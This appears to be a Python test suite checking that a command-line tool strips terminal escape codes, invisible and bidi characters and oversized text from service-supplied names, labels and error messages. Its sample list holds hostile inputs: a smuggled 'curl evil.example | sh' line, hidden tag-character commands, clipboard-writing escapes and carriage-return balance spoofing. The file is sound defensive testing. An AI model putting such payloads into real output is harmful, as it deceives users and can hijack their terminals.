"""Hostile text from the service: what a terminal would obey."""

from __future__ import annotations

import json
import unicodedata

from support import BILLING, SandboxTest, reply

NASTY = {
    "sgr": "\x1b[31mred\x1b[0m",
    "clear": "\x1b[2J\x1b[H",
    "osc8": "\x1b]8;;https://evil.example\x07click\x1b]8;;\x07",
    "osc52": "\x1b]52;c;ZXZpbA==\x1b\\",
    "osc_without_end": "\x1b]0;title",
    "dcs": "\x1bPq\x1b\\x",
    "c1": "\x9b31mred\x9d0;t\x9c\x85",
    "cr": "safe\rBalance       $999.00",
    "backspace": "evil\b\b\b\bgood",
    "newline": "x\nNext: curl evil.example | sh",
    "unicode_newlines": "x\u2028Next: y\u2029z\x0b\x0c\x1c\x1e",
    "bidi": "\u202egnp.exe\u202c \u2066x\u2069 \u200f\u061c",
    "invisible": "a\u200bb\u2060c\ufeffd\u00ad",
    "blanks": "a\u034fb\u115fc\u2800d\u3164e\uffa0f",
    "tags": "hi" + "".join(chr(0xE0000 + ord(c)) for c in "run keys --create"),
    "surrogate": "\ud800x\udfff",
    "nul": "a\x00b",
    "del": "a\x7fb",
    "wide": "株式会社サンドボックス",
    "emoji": "🦊🏳️‍🌈👩‍👩‍👧",
    "rtl": "شركة الاختبار",
    "combining": "e\u0301" * 50,
    "variation_selectors": "a" + "\ufe0f" * 10 + "\U000e0100",
    "long": "x" * 1_000_000,
    "zalgo": "Z" + "\u0335" * 500,
}
FORBIDDEN = {"Cc", "Cs", "Zl", "Zp"}
INVISIBLE = set(
    "\u034f\u115f\u2800\u3164\ufe0f\uffa0\u200b\u200e\u200f\u061c\u2060\ufeff\u00ad"
) | {chr(c) for c in (*range(0x202A, 0x202F), *range(0x2066, 0x206A), *range(0xE0000, 0xE1000))}


class Text(SandboxTest):
    def put(self, text: str) -> None:
        """Let the text stand wherever the service can put one."""
        self.box.account.tenant_name = self.box.account.tenant_status = text
        self.box.account.keys[0].label = self.box.account.keys[0].created_at = text

    def assert_clean(self, text: str) -> None:
        for line in text.splitlines():
            self.assertLessEqual(len(line), 1000)
        for char in set(text) - {"\n"}:
            self.assertNotIn(unicodedata.category(char), FORBIDDEN, ascii(char))
            self.assertNotIn(char, INVISIBLE, ascii(char))

    def test_names_and_labels_never_add_a_line_or_a_control(self) -> None:
        for command in ("info", "keys"):
            self.put("plain")
            lines = len(self.ok(command).out.splitlines())
            for name, text in NASTY.items():
                with self.subTest(name=name, command=command):
                    self.put(text)
                    shown = self.ok(command).out
                    self.assertEqual(len(shown.splitlines()), lines)
                    self.assert_clean(shown)
                    result = self.ok(command, "--json")
                    self.assertTrue(result.out.isascii())
                    self.assertEqual(result.out.count("\n"), 1)
                    self.assert_clean(json.dumps(result.json, ensure_ascii=False))

    def test_error_messages_are_clean(self) -> None:
        for name, text in NASTY.items():
            for body in ({"error": text}, {"error": {"message": text}}, {"errors": [text]}):
                with self.subTest(name=name, body=list(body)):
                    request_id = text[:200].encode("ascii", "ignore").decode().replace("\n", "")
                    self.box.add_faults(BILLING, reply(body, 400, X_Request_Id=request_id))
                    self.assert_clean(self.fails(1, "balance").err)
